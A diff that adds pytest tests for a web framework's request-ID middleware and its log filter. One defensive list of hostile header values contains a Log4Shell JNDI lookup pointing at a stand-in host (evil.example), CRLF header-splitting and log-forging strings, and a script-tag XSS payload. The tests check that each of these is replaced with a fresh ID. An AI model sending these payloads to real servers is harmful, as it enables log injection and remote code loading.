@@ -1,20 +1,32 @@
-"""roob/middleware.py: ErrorHandlerMiddleware, SecurityHeadersMiddleware, CORSMiddleware."""
+"""roob/middleware.py: ErrorHandlerMiddleware, SecurityHeadersMiddleware, CORSMiddleware,
+TrustedHostMiddleware, RequestIDMiddleware (with roob/logs.py's request_id)."""
 
 from __future__ import annotations
 
+import io
 import logging
+import re
+import runpy
+import subprocess
 import sys
+import textwrap
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
+import roob.logs
 from roob import (
     ConfigurationError,
     CORSMiddleware,
     ErrorHandlerMiddleware,
+    NotFound,
+    RequestIDMiddleware,
     Response,
     SecurityHeadersMiddleware,
     TrustedHostMiddleware,
 )
+from roob.logs import REQUEST_ID, RequestIDFilter
 from roob.testing import TestClient
 
 INTERNAL_ERROR = {"message": "Internal Server Error"}
@@ -559,3 +571,420 @@ def test_any_host_is_allowed_with_a_star():
 def test_trusted_hosts_must_name_a_host(hosts):
     with pytest.raises(ConfigurationError, match="allowed_hosts must name at least one host"):
         TrustedHostMiddleware(works, allowed_hosts=hosts)
+
+
+# --- RequestIDMiddleware ---------------------------------------------------------
+
+NEW_ID = re.compile(r"[0-9a-f]{32}\Z")  # uuid4().hex
+
+
+def roob_records(caplog):
+    return [r for r in caplog.records if r.name == "roob"]
+
+
+@pytest.fixture
+def traced(app):
+    """An application with a request id, answering in each of the ways it can."""
+
+    @app.get("/id")
+    def show(request):
+        return {"id": request.id}
+
+    @app.get("/broken")
+    def broken(request):
+        raise RuntimeError("view broke")
+
+    @app.get("/gone")
+    def gone(request):
+        raise NotFound("no such thing")
+
+    @app.get("/stream")
+    def stream(request):
+        def chunks():
+            yield b"one "
+            yield b"two"
+
+        return Response(app_iter=chunks(), content_type="text/plain")
+
+    @app.get("/stream-broken-at-once")
+    def broken_at_once(request):
+        def chunks():
+            raise RuntimeError("stream broke before its first byte")
+            yield b""  # pragma: no cover
+
+        return Response(app_iter=chunks(), content_type="text/plain")
+
+    @app.get("/stream-broken-later")
+    def broken_later(request):
+        def chunks():
+            yield b"partial"
+            raise RuntimeError("stream broke after its first byte")
+
+        return Response(app_iter=chunks(), content_type="text/plain")
+
+    @app.get("/own")
+    def own(request):
+        return {}, 200, {"X-Request-ID": "set-by-the-view"}
+
+    app.add_middleware(RequestIDMiddleware)
+    return app
+
+
+def test_each_request_gets_a_new_id_sent_back_and_seen_by_the_view(traced, client):
+    first, second = client.get("/id"), client.get("/id")
+    assert NEW_ID.match(first.headers["X-Request-ID"])
+    assert first.json() == {"id": first.headers["X-Request-ID"]}
+    assert second.json() == {"id": second.headers["X-Request-ID"]}
+    assert first.headers["X-Request-ID"] != second.headers["X-Request-ID"]
+
+
+def test_request_id_is_none_without_the_middleware(app, client):
+    @app.get("/id")
+    def show(request):
+        return {"id": request.id}
+
+    assert client.get("/id").json() == {"id": None}
+    assert "X-Request-ID" not in client.get("/id").headers
+
+
+@pytest.mark.parametrize(
+    "path",
+    ["/id", "/missing", "/broken", "/gone", "/stream", "/stream-broken-at-once"],
+)
+@pytest.mark.parametrize("method", ["GET", "HEAD", "POST"])
+def test_every_answer_carries_the_id(traced, client, path, method):
+    # 200, 404, 405 (POST), 500 from a view, an HTTPError, a streamed body, a stream that
+    # broke before its first byte (the application's own 500, started while iterating).
+    response = client.request(method, path)
+    assert NEW_ID.match(response.headers["X-Request-ID"]), (response.status_code, path)
+
+
+def test_an_answer_that_sets_the_header_keeps_it(traced, client):
+    assert client.get("/own").headers.getall("X-Request-ID") == ["set-by-the-view"]
+
+
+def test_an_incoming_id_is_ignored_unless_trusted(traced, client):
+    response = client.get("/id", headers={"X-Request-ID": "chosen-by-the-client"})
+    assert NEW_ID.match(response.headers["X-Request-ID"])
+    assert response.json()["id"] == response.headers["X-Request-ID"]
+
+
+@pytest.mark.parametrize(
+    "incoming",
+    [
+        "3f2a9c1e-7b4d-4e1a-9f0c-2d6b8e4a1c3f",  # a UUID (nginx $request_id is 32 hex)
+        "0123456789abcdef0123456789abcdef",
+        "Root=1-67891233-abcdef012345678912345678",  # AWS ALB X-Amzn-Trace-Id
+        "YWJj+ZGVm/Z2hp==",  # base64 (Heroku: alphanumerics, +, /, =, -)
+        "req_01@edge~2.eu:7",  # Rails keeps \w, - and @
+        "x" * 200,
+    ],
+)
+def test_a_trusted_proxys_well_formed_id_is_used(app, incoming):
+    @app.get("/id")
+    def show(request):
+        return {"id": request.id}
+
+    app.add_middleware(RequestIDMiddleware, trust_incoming=True)
+    response = TestClient(app).get("/id", headers={"X-Request-ID": incoming})
+    assert response.headers["X-Request-ID"] == incoming
+    assert response.json() == {"id": incoming}
+
+
+# Values a client may put in the header to reach logs, headers or log viewers: log
+# injection and forging (OWASP Logging Cheat Sheet, CWE-117: CR, LF, other controls),
+# Log4Shell's lookup (CVE-2021-44228), HTML for a log viewer (OWASP XSS), header
+# splitting (OWASP HTTP Response Splitting), what a server makes of two headers (joined
+# with ", "), a length past any id (Heroku's bound is 200; Rails truncates at 255),
+# non-ASCII and lookalikes, the empty value.
+HOSTILE_IDS = [
+    "",
+    "x" * 201,
+    "abc\r\nX-Injected: 1",
+    "abc\nERROR forged log line",
+    "abc\rdef",
+    "abc\x00def",
+    "abc\tdef",
+    "abc\x1b[31mred",
+    "abc\x7f",
+    "two words",
+    "first, second",
+    "${jndi:ldap://evil.example/a}",
+    "<script>alert(1)</script>",
+    '"quoted"',
+    "it's",
+    "back\\slash",
+    "%0d%0aSet-Cookie:x=1",
+    "semi;colon",
+    "ünïcode",
+    "\u2028line-separator",
+    "\uff41\uff42\uff43",  # fullwidth abc
+    "abc\u200b",  # zero-width space
+]
+
+
+@pytest.mark.parametrize("incoming", HOSTILE_IDS)
+def test_a_hostile_incoming_id_is_replaced_by_a_new_one(start_response, incoming):
+    seen = []
+
+    def inner(environ, start_response):
+        seen.append((environ["roob.request_id"], REQUEST_ID.get()))
+        start_response("200 OK", [("Content-Type", "text/plain")])
+        return [b"ok"]
+
+    middleware = RequestIDMiddleware(inner, trust_incoming=True)
+    environ = {"REQUEST_METHOD": "GET", "HTTP_X_REQUEST_ID": incoming}
+    assert middleware(environ, start_response) == [b"ok"]
+    [(request_id, in_context)] = seen
+    assert NEW_ID.match(request_id)
+    assert in_context == request_id
+    assert start_response.headers["X-Request-ID"] == request_id
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.text(max_size=300))
+def test_whatever_a_client_sends_the_id_is_safe_to_log_and_send(incoming):
+    middleware = RequestIDMiddleware(works, trust_incoming=True)
+    request_id = middleware.request_id({"HTTP_X_REQUEST_ID": incoming})
+    assert request_id == incoming or NEW_ID.match(request_id)
+    assert 1 <= len(request_id) <= 200
+    assert request_id.isascii()
+    assert request_id.isprintable()
+    assert not set(request_id) & set(" \t\r\n\"',;\\%<>{}$")
+
+
+def test_another_header_may_carry_the_id(app):
+    @app.get("/id")
+    def show(request):
+        return {"id": request.id}
+
+    app.add_middleware(RequestIDMiddleware, header="X-Correlation-ID", trust_incoming=True)
+    client = TestClient(app)
+    response = client.get("/id", headers={"X-Correlation-ID": "abc-123", "X-Request-ID": "no"})
+    assert response.headers["X-Correlation-ID"] == "abc-123"
+    assert "X-Request-ID" not in response.headers
+    assert response.json() == {"id": "abc-123"}
+
+
+@pytest.mark.parametrize("header", ["", "X Request ID", "X-Request-ID\r\n", "X-Réquest", "a:b"])
+def test_a_header_that_is_not_a_header_name_is_refused_when_added(app, header):
+    with pytest.raises(ConfigurationError, match=r"RequestIDMiddleware\(header=.*'X-Request-ID'"):
+        app.add_middleware(RequestIDMiddleware, header=header)
+
+
+# --- the request id on log records -------------------------------------------------
+
+
+def test_roobs_log_records_during_a_request_carry_its_id(traced, client, caplog):
+    response = client.get("/broken")
+    [record] = roob_records(caplog)
+    assert record.getMessage() == "Unhandled exception: GET /broken"
+    assert record.request_id == response.headers["X-Request-ID"]
+
+
+def test_a_record_written_while_a_stream_is_sent_carries_the_id(traced, client, caplog):
+    # Logged during the server's iteration, after the application returned.
+    with pytest.raises(RuntimeError, match="after its first byte"):
+        client.get("/stream-broken-later")
+    [record] = roob_records(caplog)
+    assert record.getMessage().startswith("Error after the response started")
+    assert NEW_ID.match(record.request_id)
+
+
+def test_a_stream_that_fails_before_its_first_byte_is_logged_with_the_id(traced, client, caplog):
+    response = client.get("/stream-broken-at-once")
+    assert response.status_code == 500
+    [record] = roob_records(caplog)
+    assert record.request_id == response.headers["X-Request-ID"]
+
+
+def test_records_outside_a_request_have_none(traced, client, caplog):
+    client.get("/broken")
+    logging.getLogger("roob").warning("between requests")
+    assert roob_records(caplog)[-1].request_id is None
+    assert REQUEST_ID.get() is None
+
+
+def test_two_streams_sent_in_turns_each_log_their_own_id():
+    # A threaded server may interleave bodies; each chunk is produced under its own id.
+    def inner(environ, start_response):
+        start_response("200 OK", [("Content-Type", "text/plain")])
+
+        def chunks():
+            for _ in range(3):
+                yield REQUEST_ID.get().encode()
+
+        return chunks()
+
+    middleware = RequestIDMiddleware(inner)
+    ignore = lambda status, headers, exc_info=None: None  # noqa: E731
+    first = middleware({"REQUEST_METHOD": "GET"}, ignore)
+    second = middleware({"REQUEST_METHOD": "GET"}, ignore)
+    chunks = [next(iter(body)) for _ in range(3) for body in (first, second)]
+    assert chunks[0::2] == [chunks[0]] * 3
+    assert chunks[1::2] == [chunks[1]] * 3
+    assert chunks[0] != chunks[1]
+    assert REQUEST_ID.get() is None
+
+
+class LogsWhenClosed:
+    """A streamed body whose close() logs on the roob logger, as a teardown would."""
+
+    def __init__(self):
+        self.closed = False
+
+    def __iter__(self):
+        yield b"body"
+
+    def close(self):
+        self.closed = True
+        logging.getLogger("roob").warning("closing the body")
+
+
+@pytest.mark.parametrize("iterate", [True, False], ids=["sent", "never-iterated"])
+def test_a_bodys_close_runs_under_the_id(caplog, start_response, iterate):
+    body = LogsWhenClosed()
+
+    def inner(environ, start_response):
+        start_response("200 OK", [("Content-Type", "text/plain")])
+        return body
+
+    sent = RequestIDMiddleware(inner)({"REQUEST_METHOD": "GET"}, start_response)
+    if iterate:
+        assert list(sent) == [b"body"]
+    sent.close()
+    assert body.closed
+    [record] = roob_records(caplog)
+    assert record.request_id == start_response.headers["X-Request-ID"]
+
+
+def test_a_streamed_body_without_close_is_sent(call_wsgi):
+    def inner(environ, start_response):
+        start_response("200 OK", [("Content-Type", "text/plain")])
+        return iter([b"a", b"b"])
+
+    start_response, body = call_wsgi(RequestIDMiddleware(inner))
+    assert body == b"ab"
+    assert NEW_ID.match(start_response.headers["X-Request-ID"])
+
+
+def test_a_list_or_file_wrapper_body_is_passed_on_as_it_is(start_response):
+    # A list has nothing left to run; the server's file wrapper must stay one for sendfile.
+    class FileWrapper:
+        def __init__(self, file, block_size=8192):
+            self.file = file
+
+        def __iter__(self):
+            return iter([b"file"])  # pragma: no cover - identity is checked only
+
+    listed, wrapped = [b"listed"], FileWrapper(None)
+    for body in (listed, wrapped):
+
+        def inner(environ, start_response, body=body):
+            start_response("200 OK", [])
+            return body
+
+        environ = {"REQUEST_METHOD": "GET", "wsgi.file_wrapper": FileWrapper}
+        assert RequestIDMiddleware(inner)(environ, start_response) is body
+
+
+def test_an_error_escaping_the_application_resets_the_context(start_response):
+    def inner(environ, start_response):
+        raise RuntimeError("not a Roob application")
+
+    with pytest.raises(RuntimeError):
+        RequestIDMiddleware(inner)({"REQUEST_METHOD": "GET"}, start_response)
+    assert REQUEST_ID.get() is None
+
+
+def test_an_error_handler_inside_sends_its_500_with_the_id(caplog):
+    # Added last (outermost), the id covers the answers of the middleware inside it.
+    client = TestClient(RequestIDMiddleware(ErrorHandlerMiddleware(app=fails_on_call)))
+    response = client.get("/")
+    assert response.status_code == 500
+    [record] = roob_records(caplog)
+    assert record.request_id == response.headers["X-Request-ID"]
+
+
+def test_a_filter_on_a_handler_gives_the_applications_records_the_id(traced):
+    @traced.get("/mine")
+    def mine(request):
+        logging.getLogger("my.app").warning("in the view")
+        return {}
+
+    lines = io.StringIO()
+    handler = logging.StreamHandler(lines)
+    handler.addFilter(RequestIDFilter())
+    handler.setFormatter(logging.Formatter("%(request_id)s %(name)s %(message)s"))
+    mine_logger = logging.getLogger("my.app")
+    mine_logger.addHandler(handler)
+    try:
+        response = TestClient(traced).get("/mine")
+        mine_logger.warning("after the request")
+    finally:
+        mine_logger.removeHandler(handler)
+    assert lines.getvalue().splitlines() == [
+        f"{response.headers['X-Request-ID']} my.app in the view",
+        "None my.app after the request",
+    ]
+
+
+def test_a_record_that_has_an_id_keeps_it():
+    # A handler in another thread (a QueueHandler's listener) sees the caller's id.
+    record = logging.makeLogRecord({"msg": "queued", "request_id": "from-the-request"})
+    assert RequestIDFilter().filter(record)
+    assert record.request_id == "from-the-request"
+
+
+APP_WITH_ID = textwrap.dedent("""
+    from roob import RequestIDMiddleware, Roob
+
+    app = Roob(static_dir=None)
+
+    @app.get("/boom")
+    def boom(request):
+        raise RuntimeError("it broke")
+
+    app.add_middleware(RequestIDMiddleware, trust_incoming=True)
+""")
+
+
+def test_without_logging_set_up_the_id_is_in_the_line_on_stderr(tmp_path):
+    (tmp_path / "logged.py").write_text(APP_WITH_ID)
+    script = (
+        "from roob.testing import TestClient; from logged import app;"
+        "TestClient(app).get('/boom', headers={'X-Request-ID': 'req-42'});"
+        "import logging; logging.getLogger('roob').warning('outside %s', 'any request')"
+    )
+    completed = subprocess.run(
+        [sys.executable, "-c", script], cwd=tmp_path, capture_output=True, text=True, timeout=60
+    )
+    assert re.search(
+        r"\] \[ERROR\] roob: \[request_id=req-42\] Unhandled exception: GET /boom\n"
+        r"Traceback \(most recent call last\):",
+        completed.stderr,
+    ), completed.stderr
+    assert "[WARNING] roob: outside any request\n" in completed.stderr
+
+
+def test_roob_logs_run_twice_leaves_one_working_filter_and_handler():
+    # coverage imports a source package to find it, then forgets it (sys.modules restored):
+    # roob/logs.py runs again on the next import, while the "roob" logger stays.
+    roob_logger = logging.getLogger("roob")
+    foreign = logging.Filter()  # someone else's, which lets every record through
+    roob_logger.addFilter(foreign)
+    try:
+        again = runpy.run_path(roob.logs.__file__, run_name="roob.logs")
+        assert [type(f) for f in roob_logger.filters] == [logging.Filter, again["RequestIDFilter"]]
+        assert [type(h) for h in roob_logger.handlers] == [again["_UnlessConfigured"]]
+        token = again["REQUEST_ID"].set("after-the-second-run")
+        try:
+            record = roob_logger.makeRecord("roob", logging.INFO, "x", 1, "m", None, None)
+            roob_logger.filter(record)
+        finally:
+            again["REQUEST_ID"].reset(token)
+        assert record.request_id == "after-the-second-run"
+    finally:
+        roob_logger.removeFilter(foreign)
+        roob.logs._install()
+    assert [type(f) for f in roob_logger.filters] == [RequestIDFilter]
